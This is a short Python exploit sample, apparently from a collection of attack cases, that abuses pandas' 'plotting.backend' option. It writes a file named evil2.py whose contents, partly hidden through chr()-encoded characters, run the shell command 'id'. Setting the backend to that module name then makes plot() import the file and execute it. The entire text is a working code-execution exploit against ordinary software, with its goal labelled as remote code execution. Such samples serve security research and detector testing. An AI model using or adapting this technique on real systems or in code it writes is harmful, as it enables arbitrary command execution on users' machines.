# source: pandas PR #26753/#28622 (plotting.backend option and plot(backend=) -> importlib.import_module), https://github.com/pandas-dev/pandas/issues/28619; sys.path[0]='' module shadowing (docs.python.org security_warnings: -P/PYTHONSAFEPATH) + pandas import_optional_dependency
# family: string->import: pandas plotting backend name imported with importlib via pd.set_option + chr()-built payload
# goal: RCE: id
import pandas as pd
code = "".join(chr(c) for c in [105,109,112,111,114,116,32,111,115])
pd.DataFrame({"c": [code + ";print(os.popen('id').read());plot=0"]}).to_csv("evil2.py", index=False, header=False)
pd.set_option("plotting.backend", "evil2")
pd.Series([1, 2]).plot()
